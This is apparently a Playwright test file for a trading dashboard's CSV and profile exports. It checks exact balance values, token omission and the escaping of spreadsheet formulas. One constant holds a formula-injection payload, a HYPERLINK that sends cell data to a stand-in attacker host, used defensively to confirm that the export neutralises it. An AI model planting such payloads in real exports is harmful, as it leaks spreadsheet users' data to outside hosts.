import { expect, test } from '@playwright/test';
import Decimal from 'decimal.js';
import type { Simulator } from '../sim/index';
import { isLiveFormula, parseCsv } from './support/csv';
import { expectStatus, exportText, importProfile } from './support/dashboard';
import { startPausedSimulator, writeProfile, zdexConnection } from './support/simulator';

/** U+FEFF, the byte order mark every CSV export starts with (docs/contract.md section 3a). */
const BOM = '\uFEFF';

let sim: Simulator;
test.beforeEach(async () => {
  sim = await startPausedSimulator();
});
test.afterEach(async () => {
  await sim.stop();
});

test('a table CSV export holds exactly the rows and columns on screen, numbers exact where the screen rounds them', async ({
  page,
}) => {
  await page.goto('/');
  await importProfile(page, writeProfile([zdexConnection(sim)]));
  await expectStatus(page, 'zdex-main', 'live');
  const rows = page.getByTestId('balance-row');
  await expect(rows.first()).toBeVisible();
  const screen = (await rows.allInnerTexts()).map((r) => r.split(/\s*\n\s*|\t/).filter(Boolean));
  const text = await exportText(page, 'export-csv-balances');
  expect(text.startsWith(BOM)).toBe(true);
  const csv = text.slice(BOM.length).trim().split('\r\n');
  const header = await page.getByTestId('panel-balances').locator('[role="columnheader"]').allInnerTexts();
  // The header row is the visible column headers (the screen may show them upper-cased by CSS).
  expect(csv[0]?.toLowerCase().split(',')).toEqual(header.map((h) => h.trim().toLowerCase()).filter(Boolean));
  expect(csv).toHaveLength(screen.length + 1);
  // Each row's first cells (connection, asset) are the ones shown, in the same order.
  expect(csv.slice(1).map((line) => line.split(',').slice(0, 2))).toEqual(screen.map((cells) => cells.slice(0, 2)));

  // Numbers: the CSV carries the venue's exact value (the cell's data-value and tooltip), the screen the
  // rounded one (USDT amounts in cents, coins up to 8 decimals, en-US grouping).
  const [head, ...records] = parseCsv(text.slice(BOM.length));
  const total = head?.indexOf('Total') ?? -1;
  const asset = head?.indexOf('Asset') ?? -1;
  expect(total).toBeGreaterThanOrEqual(0);
  const cells = await rows.evaluateAll(
    (els, index) =>
      els.map((el) => {
        const num = el.querySelectorAll('[role="cell"]')[index]?.querySelector('.num');
        return {
          text: num?.textContent ?? '',
          exact: num?.getAttribute('data-value'),
          title: num?.getAttribute('title'),
        };
      }),
    total,
  );
  expect(records.map((r) => r[total])).toEqual(cells.map((c) => c.exact));
  expect(cells.map((c) => c.title)).toEqual(cells.map((c) => c.exact));
  const rounded = (exact: string, assetName: string) => {
    const fixed = new Decimal(exact).toFixed(assetName === 'USDT' ? 2 : 8, Decimal.ROUND_HALF_UP);
    const trimmed = assetName === 'USDT' ? fixed : fixed.replace(/\.?0+$/, '');
    return trimmed.replace(/\B(?=(\d{3})+(?!\d))/g, ',');
  };
  expect(cells.map((c) => c.text)).toEqual(records.map((r) => rounded(r[total]!, r[asset]!)));
  // At least one balance has more decimals than it shows: the rounding is there to see.
  expect(records.some((r, i) => r[total] !== cells[i]?.text.replace(/,/g, ''))).toBe(true);
});

test('a profile export leaves secrets out unless the box is ticked', async ({ page }) => {
  await page.goto('/');
  const connection = zdexConnection(sim);
  await importProfile(page, writeProfile([connection]));
  const plain = JSON.parse(await exportText(page, 'export-connections')) as {
    format: string;
    connections: { id: string; auth: object }[];
  };
  expect(plain.format).toBe('venueboard.connections/v1');
  expect(plain.connections).toEqual([expect.objectContaining({ id: 'zdex-main', auth: {} })]);
  await page.getByTestId('export-include-secrets').check();
  const full = JSON.parse(await exportText(page, 'export-connections')) as {
    connections: { auth: { token?: string } }[];
  };
  expect(full.connections[0]?.auth.token).toBe(connection.auth.token);
});

/** An asset name as a venue might send it (a DEX lists tokens others name), which a spreadsheet would run. */
const FORMULA_ASSET = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for airdrop")';

test('a venue string that is a formula shows as text on screen and reaches the CSV inert, after the BOM', async ({
  page,
}) => {
  // ZDEX sends the extra wallet in its documented full-state `balances`, as any venue-named asset.
  const venue = await startPausedSimulator({
    tuning: {
      zdex: {
        extraBalances: [
          {
            asset: FORMULA_ASSET,
            walletBalance: '12.5',
            unrealizedProfit: '0',
            marginBalance: '12.5',
            availableBalance: '12.5',
          },
        ],
      },
    },
  });
  try {
    await page.goto('/');
    await importProfile(page, writeProfile([zdexConnection(venue)]));
    await expectStatus(page, 'zdex-main', 'live');
    const formulaRow = page.getByTestId('balance-row').filter({ hasText: 'HYPERLINK' });
    await expect(formulaRow).toHaveCount(1);
    // The screen shows the venue's text exactly as it came, as text: no link, no markup.
    await expect(formulaRow.locator('.symbol')).toHaveText(FORMULA_ASSET);
    await expect(page.locator('a[href*="evil.example"]')).toHaveCount(0);

    const text = await exportText(page, 'export-csv-balances');
    expect(text.startsWith(BOM)).toBe(true);
    const [header, ...rows] = parseCsv(text.slice(BOM.length));
    const asset = header?.indexOf('Asset') ?? -1;
    expect(asset).toBeGreaterThanOrEqual(0);
    // The file's cell is the same text behind a "'", so a spreadsheet shows it instead of running it.
    expect(rows.map((r) => r[asset])).toContain(`'${FORMULA_ASSET}`);
    expect(rows.flat().filter(isLiveFormula)).toEqual([]);
    // Apart from that "'", the file still holds the table as shown: same rows, same connection and asset.
    const screen = await page
      .getByTestId('balance-row')
      .evaluateAll((els) =>
        els.map((el) => [...el.querySelectorAll('[role="cell"]')].slice(0, 2).map((c) => c.textContent?.trim() ?? '')),
      );
    expect(rows.map((r) => [r[0], r[asset]?.replace(/^'(?=[=+\-@\t\r])/, '')])).toEqual(screen);
  } finally {
    await venue.stop();
  }
});
